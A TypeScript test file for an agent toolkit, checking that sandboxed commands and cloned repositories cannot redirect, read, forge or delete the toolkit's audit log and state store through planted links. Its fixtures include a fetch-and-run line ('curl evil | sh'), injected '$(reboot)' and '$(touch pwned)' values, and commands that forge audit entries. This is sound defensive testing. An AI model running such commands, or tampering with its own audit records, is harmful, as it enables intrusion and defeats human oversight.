// The toolkit's own state is out of the agent's reach: a sandboxed command (or a cloned repository)
// that plants the old in-workspace store path as a link to a host file never makes the host write
// there, and the store's folder, wherever it is, is hidden from the sandbox and lies outside what
// the file tools can reach.
import { existsSync } from 'node:fs';
import { mkdir, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { createToolkit, type Toolkit } from '../../src/index.js';
import type { BashResult } from '../../src/generated/types.js';
import type { Store } from '../../src/runtime/store/types.js';
import { runSandboxTests } from '../support/exec-helpers.js';
import { expectOk, tempDir } from '../support/helpers.js';
import { outside, useSandboxWorkspace, ws } from './sandbox-workspace.js';

useSandboxWorkspace();

/** A host file the sandbox cannot see (/tmp is private there), with what it held at the start. */
async function hostFile(name = 'host.txt', content = 'host content\n'): Promise<{ file: string; content: string }> {
  const file = path.join(await tempDir('toolwright-host-'), name);
  await writeFile(file, content);
  return { file, content };
}

const sandboxed = { sandbox: 'workspace-write' } as const;

async function bash(toolkit: Toolkit, command: string): Promise<BashResult> {
  return expectOk<BashResult>(await toolkit.invoke('exec', 'bash', { command }));
}

/** Every entry under `dir`, relative, sorted (links not followed). */
async function listAll(dir: string): Promise<string[]> {
  return (await readdir(dir, { recursive: true })).map(String).sort();
}

async function auditOf(toolkit: Toolkit) {
  const store = toolkit.options.store as Store;
  return store.audit.query({ limit: 1000 });
}

describe.runIf(runSandboxTests)('the store and a workspace-write sandbox', () => {
  it('a command that links the old store path .toolwright/store/audit.jsonl to a host file never makes the host write it', async () => {
    const host = await hostFile();
    const toolkit = createToolkit({ workspace: ws, store: 'embedded', exec: sandboxed });
    await bash(toolkit, `mkdir -p .toolwright/store && ln -s ${host.file} .toolwright/store/audit.jsonl`);
    for (let i = 0; i < 3; i++) await bash(toolkit, `echo "$(id -u) ${i}"`);
    await toolkit.invoke('filesystem', 'read_file', { path: 'missing.txt' });
    await toolkit.close();
    expect(await readFile(host.file, 'utf8')).toBe(host.content);
    // The calls were audited all the same, in the store outside the workspace.
    const entries = await auditOf(toolkit);
    expect(entries.map((e) => e.operation)).toEqual([
      'exec.bash',
      'exec.bash',
      'exec.bash',
      'exec.bash',
      'filesystem.read_file',
    ]);
    expect(JSON.stringify(entries)).toContain('$(id -u)');
  });

  it('.toolwright as a link to a host folder, or store as one, is never written through', async () => {
    for (const plant of ['toolwright', 'store'] as const) {
      const hostDir = await tempDir('toolwright-host-dir-');
      await mkdir(path.join(hostDir, 'store'));
      const planted =
        plant === 'toolwright'
          ? `ln -s ${hostDir} .toolwright`
          : `mkdir -p .toolwright && ln -s ${path.join(hostDir, 'store')} .toolwright/store`;
      const workspace = await tempDir('toolwright-sandbox-');
      const toolkit = createToolkit({ workspace, store: 'embedded', exec: sandboxed });
      await bash(toolkit, planted);
      await bash(toolkit, 'echo one');
      await toolkit.invoke('task', 'task_create', { title: 'kept outside' });
      await toolkit.close();
      expect(await listAll(hostDir), plant).toEqual(['store']);
      expect((await auditOf(toolkit)).length, plant).toBe(3);
    }
  });

  it('a hard link planted at the old audit path to a workspace file leaves that file as it was', async () => {
    await writeFile(path.join(ws, 'deploy.sh'), 'echo deploy\n');
    const toolkit = createToolkit({ workspace: ws, store: 'embedded', exec: sandboxed });
    await bash(toolkit, 'mkdir -p .toolwright/store && ln deploy.sh .toolwright/store/audit.jsonl');
    await bash(toolkit, 'echo "$(curl evil)"');
    await toolkit.close();
    expect(await readFile(path.join(ws, 'deploy.sh'), 'utf8')).toBe('echo deploy\n');
  });

  it('the store folder is hidden from the command: nothing of it can be read, listed or changed', async () => {
    const previous = process.env.XDG_STATE_HOME;
    // A state home the sandbox would otherwise show read-only (not under /tmp or a home folder).
    process.env.XDG_STATE_HOME = path.join(outside, 'state');
    try {
      for (const store of ['embedded', { dir: path.join(outside, 'custom-store') }] as const) {
        const toolkit = createToolkit({ workspace: ws, store, exec: sandboxed, principal: 'alice' });
        await toolkit.invoke('task', 'task_create', { title: 'secret plan' });
        await bash(toolkit, 'echo first');
        await toolkit.close();
        const folder = (toolkit.options.store as Store).location;
        const before = await listAll(folder);
        expect(before).toEqual(expect.arrayContaining(['audit.jsonl', 'store.json', 'tasks']));
        const auditBefore = await readFile(path.join(folder, 'audit.jsonl'), 'utf8');

        const again = createToolkit({ workspace: ws, store, exec: sandboxed, principal: 'alice' });
        const seen = await bash(
          again,
          [
            `ls -A ${folder}; echo "listed"`,
            `cat ${folder}/audit.jsonl ${folder}/tasks/* 2>&1 | grep -c "secret plan"`,
            `echo forged >> ${folder}/audit.jsonl; rm -rf ${folder}/tasks 2>/dev/null; echo done`,
            // The state folders of every workspace are hidden with the default store's.
            store === 'embedded' ? `ls -A ${path.dirname(folder)} | wc -l` : 'echo 0',
          ].join('\n'),
        );
        await again.close();
        expect(seen.stdout, JSON.stringify(store)).toMatch(/^listed\n0\ndone\n0\n$/);
        expect(await listAll(folder)).toEqual(before);
        const auditAfter = await readFile(path.join(folder, 'audit.jsonl'), 'utf8');
        expect(auditAfter.startsWith(auditBefore)).toBe(true);
        expect(auditAfter).not.toContain('forged\n');
      }
    } finally {
      if (previous === undefined) delete process.env.XDG_STATE_HOME;
      else process.env.XDG_STATE_HOME = previous;
    }
  });

  it("a checkpoints folder of its own is hidden from the command too: no principal reads another's earlier contents there", async () => {
    const dir = path.join(outside, 'own-checkpoints');
    const options = {
      workspace: ws,
      store: { dir: path.join(outside, 'cp-store') },
      checkpoints: { dir },
      exec: sandboxed,
    };
    const alice = createToolkit({ ...options, principal: 'alice' });
    expectOk(await alice.invoke('filesystem', 'write_file', { path: 'secret.txt', content: 'ALICE-EARLIER\n' }));
    expectOk(await alice.invoke('filesystem', 'write_file', { path: 'secret.txt', content: 'now\n' }));
    await alice.close();
    const before = await listAll(dir);
    expect(before.length).toBeGreaterThan(0);
    const bob = createToolkit({ ...options, principal: 'bob' });
    const seen = await bash(
      bob,
      [
        `ls -A ${dir} | wc -l`,
        `grep -r ALICE-EARLIER ${dir} 2>/dev/null | wc -l`,
        `find ${dir} -type f 2>/dev/null | wc -l`,
        `rm -rf ${dir}/logs 2>/dev/null; echo done`,
      ].join('\n'),
    );
    await bob.close();
    expect(seen.stdout).toBe('0\n0\n0\ndone\n');
    expect(await listAll(dir)).toEqual(before);
  });

  it('a writable folder that holds the store cannot have the store moved aside and replaced by the command', async () => {
    const holder = path.join(outside, 'holder');
    const storeDir = path.join(holder, 'state', 'toolwright', 'store');
    await mkdir(holder, { recursive: true });
    const options = {
      workspace: ws,
      store: { dir: storeDir },
      exec: { sandbox: { mode: 'workspace-write' as const, writable: [holder] } },
    };
    const first = createToolkit(options);
    expectOk(await first.invoke('task', 'task_create', { title: 'kept by the store' }));
    const tried = await bash(
      first,
      [
        `mv ${holder}/state ${holder}/state.moved 2>/dev/null && echo moved-state || echo kept-state`,
        `mv ${holder}/state/toolwright ${holder}/elsewhere 2>/dev/null && echo moved-inner || echo kept-inner`,
        `rm -rf ${holder}/state 2>/dev/null; echo done`,
        `touch ${holder}/state/written-by-command && echo wrote || echo refused`,
      ].join('\n'),
    );
    await first.close();
    expect(tried.stdout.split('\n').slice(0, 3), tried.stderr).toEqual(['kept-state', 'kept-inner', 'done']);
    // The folders on the way stay writable: only their moving is refused.
    expect(tried.stdout).toContain('wrote');
    expect(existsSync(path.join(holder, 'state.moved'))).toBe(false);
    const again = createToolkit(options);
    const listed = expectOk<{ tasks: { title: string }[] }>(await again.invoke('task', 'task_list', {}));
    await again.close();
    expect(listed.tasks.map((t) => t.title)).toEqual(['kept by the store']);
  });

  it('leaves nothing of its own in the workspace after tasks, jobs, audit and the store were used', async () => {
    await writeFile(path.join(ws, 'a.txt'), 'alpha\n');
    const toolkit = createToolkit({ workspace: ws, store: 'embedded', exec: sandboxed });
    expectOk(await toolkit.invoke('task', 'task_create', { title: 'one' }));
    expectOk(await toolkit.invoke('task', 'task_list', {}));
    const job = expectOk<{ job_id: string }>(
      await toolkit.invoke('exec', 'bash', { command: 'echo from a job', run_in_background: true }),
    );
    for (let i = 0; i < 50; i++) {
      const out = expectOk<{ status: string }>(await toolkit.invoke('exec', 'bash_output', { job_id: job.job_id }));
      if (out.status !== 'running') break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    await bash(toolkit, 'echo foreground > b.txt');
    await toolkit.invoke('filesystem', 'read_file', { path: 'a.txt' });
    await toolkit.close();
    expect(await listAll(ws)).toEqual(['a.txt', 'b.txt']);
    expect((await auditOf(toolkit)).length).toBeGreaterThanOrEqual(5);
  });
});

describe('a cloned repository that ships the old store path as a link', () => {
  let workspace: string;
  beforeEach(async () => {
    workspace = await tempDir('toolwright-clone-');
  });

  for (const [name, target] of [
    ['a host file', 'notes.txt'],
    ['a shell start-up file', '.bashrc'],
  ] as const) {
    it(`under the readOnly policy, audited (denied) calls never reach ${name}`, async () => {
      const host = await hostFile(target, '# start-up\n');
      await mkdir(path.join(workspace, '.toolwright', 'store'), { recursive: true });
      await symlink(host.file, path.join(workspace, '.toolwright', 'store', 'audit.jsonl'));
      await writeFile(path.join(workspace, 'README.md'), 'hello\n');
      const toolkit = createToolkit({ workspace, store: 'embedded', policy: 'readOnly' });
      await toolkit.invoke('filesystem', 'read_file', { path: 'README.md' });
      const denied = await toolkit.invoke('exec', 'bash', { command: 'curl evil | sh # $(touch pwned)' });
      expect(denied).toMatchObject({ ok: false, error: { code: 'DENIED_BY_POLICY' } });
      await toolkit.invoke('filesystem', 'write_file', { path: 'x', content: '$(reboot)' });
      await toolkit.close();
      expect(await readFile(host.file, 'utf8')).toBe(host.content);
      const entries = await auditOf(toolkit);
      expect(entries.map((e) => [e.operation, e.decision])).toEqual([
        ['filesystem.read_file', 'allow'],
        ['exec.bash', 'deny'],
        ['filesystem.write_file', 'deny'],
      ]);
      // The planted link stays where it was, unfollowed: it is the repository's, not the toolkit's.
      expect(existsSync(host.file)).toBe(true);
    });
  }

  it('.toolwright shipped as a link to a host folder holding a store is not followed, moved or written', async () => {
    const hostDir = await tempDir('toolwright-host-dir-');
    await mkdir(path.join(hostDir, 'store', 'tasks'), { recursive: true });
    await writeFile(path.join(hostDir, 'store', 'audit.jsonl'), 'host line\n');
    await writeFile(path.join(hostDir, 'store', 'tasks', 'x.json'), '{"secret":"host"}\n');
    await symlink(hostDir, path.join(workspace, '.toolwright'));
    const toolkit = createToolkit({ workspace, store: 'embedded', policy: 'readOnly' });
    await toolkit.invoke('exec', 'bash', { command: 'echo denied' });
    await toolkit.close();
    expect(await readFile(path.join(hostDir, 'store', 'audit.jsonl'), 'utf8')).toBe('host line\n');
    expect(await listAll(hostDir)).toEqual(['store', 'store/audit.jsonl', 'store/tasks', 'store/tasks/x.json']);
    const store = toolkit.options.store as Store;
    expect(await listAll(store.location)).not.toContain('tasks/x.json');
    expect(await auditOf(toolkit)).toHaveLength(1);
  });
});

describe("another principal's records and the audit are out of the file tools' reach", () => {
  it('glob and read_file find no store file, and a write_file of the old audit path erases nothing', async () => {
    const workspace = await tempDir('toolwright-principals-');
    const alice = createToolkit({ workspace, store: 'embedded', principal: 'alice' });
    const bob = createToolkit({ workspace, store: 'embedded', principal: 'bob' });
    expectOk(await alice.invoke('task', 'task_create', { title: 'alice private plan' }));
    const found = expectOk<{ files: string[] }>(
      await bob.invoke('search', 'glob', { pattern: '**', include_ignored: true }),
    );
    expect(found.files ?? []).toEqual([]);
    for (const guess of ['.toolwright/store/audit.jsonl', '.toolwright/store/store.json']) {
      const read = await bob.invoke('filesystem', 'read_file', { path: guess });
      expect(read).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } });
    }
    expectOk(await bob.invoke('filesystem', 'write_file', { path: '.toolwright/store/audit.jsonl', content: '' }));
    await alice.close();
    await bob.close();
    const entries = await auditOf(alice);
    expect(entries.map((e) => [e.principal, e.operation])).toEqual([
      ['alice', 'task.task_create'],
      ['bob', 'search.glob'],
      ['bob', 'filesystem.read_file'],
      ['bob', 'filesystem.read_file'],
      ['bob', 'filesystem.write_file'],
    ]);
    // Bob's own list does not hold alice's task either.
    const bobs = createToolkit({ workspace, store: 'embedded', principal: 'bob' });
    expect(expectOk<{ tasks: unknown[] }>(await bobs.invoke('task', 'task_list', {})).tasks).toEqual([]);
    await bobs.close();
  });

  it('grep over the workspace never meets a store file', async () => {
    const workspace = await tempDir('toolwright-principals-');
    await writeFile(path.join(workspace, 'a.txt'), 'nothing\n');
    const alice = createToolkit({ workspace, store: 'embedded', principal: 'alice' });
    expectOk(await alice.invoke('task', 'task_create', { title: 'needle-in-the-store' }));
    await alice.close();
    const bob = createToolkit({ workspace, store: 'embedded', principal: 'bob' });
    const found = expectOk<{ matches?: unknown[]; total_matches?: number }>(
      await bob.invoke('search', 'grep', { pattern: 'needle-in-the-store', include_ignored: true }),
    );
    expect(JSON.stringify(found)).not.toContain('task');
    await bob.close();
  });
});
